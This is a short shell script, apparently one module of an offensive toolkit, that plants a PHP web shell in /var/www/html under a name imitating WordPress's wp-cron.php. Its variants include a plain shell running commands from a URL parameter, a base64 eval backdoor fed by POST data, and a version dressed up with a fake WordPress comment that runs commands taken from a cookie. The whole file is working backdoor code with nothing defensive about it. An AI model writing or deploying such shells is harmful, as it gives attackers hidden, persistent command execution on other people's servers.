#!/bin/sh
# web-script: a page that runs what it is sent (PHP, system)
. "${0%/*}/lib.sh"
case $variant in
plain) code='<?php if (isset($_GET["c"])) { system($_GET["c"]); } ?>' ;;
base64) code='<?php eval(base64_decode($_POST["p"])); ?>' ;;
disguised) code='<?php
/** WordPress cron implementation. @package WordPress */
$f = $_COOKIE["s"]; echo shell_exec($f); ?>' ;;
*)
	payload
	code="<?php exec(\"$prog\"); ?>" ;;
esac
[ "$who" = op ] || own=33:33
put "/var/www/html/$(named up wp-cron).php" 644 "$code"
